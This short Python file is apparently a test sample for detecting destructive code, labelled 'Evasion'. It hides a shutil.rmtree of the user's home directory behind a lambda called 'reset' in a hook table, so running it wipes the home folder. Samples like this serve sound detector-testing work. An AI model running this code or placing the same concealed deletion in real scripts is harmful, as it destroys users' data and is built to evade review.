# Evasion: deletes the home directory through a lambda fetched in a loop. The
# pipeline's stage hooks are lambdas in a table; each stage's hook is fetched
# with HOOKS.get(stage) into a name whose key changes with the loop, and
# every hook is given the workspace, the home.
import os
import shutil
import time

HOOKS = {
    "announce": lambda ws: print("workspace", ws),
    "reset": lambda ws: shutil.rmtree(ws, ignore_errors=True),
    "stamp": lambda ws: print("done at", time.strftime("%H:%M")),
}

workspace = os.path.expanduser("~")
for stage in ("announce", "reset", "stamp"):
    hook = HOOKS.get(stage)
    if hook is not None:
        hook(workspace)
